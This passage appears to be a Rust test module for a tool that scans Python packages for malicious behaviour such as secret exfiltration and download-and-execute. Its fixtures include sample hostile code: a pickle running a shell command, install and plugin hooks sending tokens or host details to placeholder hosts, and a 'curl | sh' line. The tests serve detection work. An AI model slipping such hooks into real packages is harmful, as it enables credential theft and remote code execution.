                ("x.js", ""),
            ],
        );
        let resolver = Resolver::new(&pkg);
        let direct = |kind: FileKind, dir: &str, import: &str| -> Vec<usize> {
            resolve(kind, dir, import)
                .iter()
                .filter_map(|c| pkg.files.iter().rposition(|f| &f.relative == c))
                .collect()
        };
        let cases = [
            (FileKind::Python, "demo", ".util"),
            // The same relative import from another folder names another file.
            (FileKind::Python, "demo/sub", ".util"),
            (FileKind::Python, "demo/sub", "..util"),
            (FileKind::Python, "demo/sub", "."),
            (FileKind::Python, "demo/sub", "demo.util"),
            (FileKind::Python, "", "demo.util"),
            (FileKind::Python, "demo", "other"),
            (FileKind::Python, "demo", "os"),
            (FileKind::JavaScript, "lib", "./x"),
            (FileKind::JavaScript, "", "./x"),
            (FileKind::JavaScript, "lib", "../x"),
            (FileKind::JavaScript, "lib", "x"),
            // The characters of the folder and import above, split elsewhere.
            (FileKind::JavaScript, "lib.", "./x"),
        ];
        // Twice: once resolved, once from the cache.
        for _ in 0..2 {
            for (kind, dir, import) in cases {
                assert_eq!(
                    resolver.files_of(kind, dir, import).to_vec(),
                    direct(kind, dir, import),
                    "{kind:?} {dir} {import}"
                );
            }
        }
        assert_ne!(
            resolver
                .files_of(FileKind::Python, "demo", ".util")
                .to_vec(),
            resolver
                .files_of(FileKind::Python, "demo/sub", ".util")
                .to_vec()
        );
        assert!(!resolver.files_of(FileKind::Python, "", "other").is_empty());
    }
    /// The files where secrets are sent out.
    fn exfiltrating_files(a: &Analysis) -> Vec<String> {
        a.behaviours
            .iter()
            .filter(|b| b.kind == BehaviourKind::SecretExfiltration)
            .map(|b| b.path.clone())
            .collect()
    }

    fn exfiltrations(a: &Analysis) -> Vec<(String, Context)> {
        a.behaviours
            .iter()
            .filter(|b| b.kind == BehaviourKind::SecretExfiltration)
            .map(|b| (b.detail.clone(), b.context))
            .collect()
    }

    #[test]
    fn a_shipped_pickle_that_runs_a_command_is_code() {
        let evil = "cposix\nsystem\n(S'id'\ntR.";
        let with = |init: &'static str, data: &'static str| {
            analyze_package(&package(
                "pick",
                &[
                    ("PKG-INFO", "Name: pick\nVersion: 1.0\n"),
                    ("pick/__init__.py", init),
                    ("pick/data/table.pkl", data),
                ],
            ))
        };
        let found = |a: &Analysis| {
            a.behaviours
                .iter()
                .find(|b| b.kind == BehaviourKind::DecodeExecute && b.path.ends_with("table.pkl"))
                .map(|b| (b.context, b.detail.clone()))
        };
        let loads = "import pickle, pkgutil\nTABLE = pickle.loads(pkgutil.get_data(__name__, 'data/table.pkl'))\n";
        let (context, detail) = found(&with(loads, evil)).expect("the pickle is judged");
        assert_eq!(context, Context::Import);
        assert!(detail.contains("posix.system"), "{detail}");
        // Nothing of the package loads pickles: it runs when someone does.
        assert_eq!(found(&with("", evil)).map(|f| f.0), Some(Context::Runtime));
        // A pickle of plain data is data.
        assert_eq!(found(&with(loads, "(dp0\nVgood\nF0.7\ns.")), None);
    }

    #[test]
    fn a_pytest_plugins_hooks_run_like_a_command() {
        let plugin = "import json, os, urllib.request\n_V = ('GITHUB_TOKEN', 'NPM_TOKEN')\n\ndef _send():\n    env = {k: os.environ[k] for k in _V if k in os.environ}\n    urllib.request.urlopen('http://192.0.2.9/r', data=json.dumps(env).encode())\n\ndef pytest_configure(config):\n    _send()\n";
        let with = |entry: &'static str| {
            analyze_package(&package(
                "plug",
                &[
                    ("plug-1.0.dist-info/METADATA", "Name: plug\nVersion: 1.0\n"),
                    ("plug-1.0.dist-info/entry_points.txt", entry),
                    ("plug/__init__.py", ""),
                    ("plug/hooks.py", plugin),
                ],
            ))
        };
        let sent = |a: &Analysis| {
            a.behaviours
                .iter()
                .find(|b| b.kind == BehaviourKind::SecretExfiltration)
                .map(|b| b.context)
        };
        assert_eq!(
            sent(&with("[pytest11]\nplug = plug.hooks\n")),
            Some(Context::Import)
        );
        // Registered for nothing that loads it, the hook runs only if someone calls it.
        assert_eq!(
            sent(&with("[other.group]\nplug = plug.hooks\n")),
            Some(Context::Runtime)
        );
    }

    #[test]
    fn a_jupyter_extension_enabled_by_a_shipped_config_runs_at_server_start() {
        let ext = "import os, socket, urllib.request\n\ndef _push(app):\n    body = ('%s %s' % (socket.gethostname(), os.getlogin())).encode()\n    urllib.request.urlopen('https://collect.example.invalid/s', data=body)\n\ndef _load_jupyter_server_extension(app):\n    _push(app)\n";
        let with = |config: &'static str| {
            analyze_package(&package(
                "jx",
                &[
                    ("jx-2.0.dist-info/METADATA", "Name: jx\nVersion: 2.0\n"),
                    (
                        "jx-2.0.data/data/etc/jupyter/jupyter_server_config.d/jx.json",
                        config,
                    ),
                    ("jx/__init__.py", ext),
                ],
            ))
        };
        let sent = |a: &Analysis| {
            a.behaviours
                .iter()
                .find(|b| b.kind == BehaviourKind::SecretExfiltration)
                .map(|b| b.context)
        };
        assert_eq!(
            sent(&with(
                r#"{"ServerApp": {"jpserver_extensions": {"jx": true}}}"#
            )),
            Some(Context::Import)
        );
        // Disabled, or a config that is not JSON: the hook runs only if someone calls it.
        assert_eq!(
            sent(&with(
                r#"{"ServerApp": {"jpserver_extensions": {"jx": false}}}"#
            )),
            Some(Context::Runtime)
        );
        assert_eq!(sent(&with("{ServerApp")), Some(Context::Runtime));
    }

    #[test]
    fn imports_from_a_folder_a_file_puts_on_the_path_are_followed() {
        let setup = "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'tools'))\nimport helper\nhelper.run()\n";
        let helper =
            "import os\n\ndef run():\n    os.system('curl -s http://payload.invalid/x | sh')\n";
        let files = |setup: &'static str| {
            package(
                "pathy",
                &[
                    ("PKG-INFO", "Name: pathy\nVersion: 1.0\n"),
                    ("setup.py", setup),
                    ("tools/helper.py", helper),
                ],
            )
        };
        let a = analyze_package(&files(setup));
        assert!(
            a.behaviours
                .iter()
                .any(|b| b.kind == BehaviourKind::DownloadExecute
                    && b.path.ends_with("tools/helper.py")
                    && b.context == Context::Install),
            "{:?}",
            a.behaviours
        );
        // Without the folder on the path, `import helper` names no file of the package.
        let a = analyze_package(&files("import helper\nhelper.run()\n"));
        assert!(
            !a.behaviours
                .iter()
                .any(|b| b.path.ends_with("tools/helper.py") && b.context == Context::Install),
            "{:?}",
            a.behaviours
        );
    }

    #[test]
    fn python_secrets_handed_to_a_function_that_sends_its_parameters() {
        // The sender takes what it is given and looks it up under a zone; the caller
        // loops over token names and hands each value over.
        let hook = "import os, socket\n\ndef leak(name, value):\n    socket.gethostbyname(f'{value}.{name}.t.example.invalid')\n\ndef get_requires_for_build_wheel(config_settings=None):\n    for n in ('CI_TOKEN', 'DEPLOY_PASSWORD'):\n        leak(n, os.environ.get(n, ''))\n    return []\n\nget_requires_for_build_wheel()\n";
        let a = analyze_package(&package(
            "hooky",
            &[
                ("PKG-INFO", "Name: hooky\nVersion: 1.0\n"),
                ("setup.py", hook),
            ],
        ));
        let found = exfiltrations(&a);
        assert!(
            found
                .iter()
                .any(|(d, c)| d.contains("handed to leak()") && *c == Context::Install),
            "{found:?}"
        );
        // The same sender handed what is not a secret: nothing is sent that matters.
        let plain = hook.replace("os.environ.get(n, '')", "n.lower()");
        let a = analyze_package(&package(
            "hooky",
            &[
                ("PKG-INFO", "Name: hooky\nVersion: 1.0\n"),
                ("setup.py", &plain),
            ],
        ));
        assert!(exfiltrations(&a).is_empty(), "{:?}", exfiltrations(&a));
        // A client handed its token with the address of the service it authenticates to.
        let client = "import os, urllib.request\n\ndef call(url, token=None):\n    req = urllib.request.Request(url, headers={'Authorization': 'Bearer ' + token})\n    return urllib.request.urlopen(req).read()\n\nlatest = call('https://api.example.org/repos/x/releases', os.environ.get('GH_TOKEN'))\n";
        let a = analyze_package(&package(
            "client",
            &[
                ("PKG-INFO", "Name: client\nVersion: 1.0\n"),
                ("setup.py", client),
            ],
        ));
        assert!(exfiltrations(&a).is_empty(), "{:?}", exfiltrations(&a));
    }

    #[test]
    fn python_result_of_one_module_handed_to_a_sender_of_another() {
        let files = |collect: &str| {
            vec![
                ("PKG-INFO", "Name: probe\nVersion: 1.0\n".to_owned()),
                (
                    "setup.py",
                    "from helpers import facts, post\npost.ship(facts.collect())\n".to_owned(),
                ),
                ("helpers/__init__.py", String::new()),
                ("helpers/facts.py", collect.to_owned()),
                (
                    "helpers/post.py",
                    "import urllib.request\n\ndef ship(doc, url='http://192.0.2.7/x'):\n    urllib.request.urlopen(url, str(doc).encode())\n".to_owned(),
                ),
            ]
        };
        let run = |collect: &str| {
            let owned = files(collect);
            let borrowed: Vec<(&str, &str)> = owned.iter().map(|(p, t)| (*p, t.as_str())).collect();
            exfiltrations(&analyze_package(&package("probe", &borrowed)))
        };
        // Host details (the user, the machine) collected in one file, sent by the other.
        let found = run(
            "import getpass, platform\n\ndef collect():\n    return {'u': getpass.getuser(), 'n': platform.node()}\n",
        );
        assert!(
            found.iter().any(|(d, c)| d.contains("collect()")
                && d.contains("handed to ship()")
                && *c == Context::Install),
            "{found:?}"
        );
        // A collector of nothing about the host: the hand-off is ordinary.
        let found = run("def collect():\n    return {'version': '1.0'}\n");
        assert!(found.is_empty(), "{found:?}");
    }
}
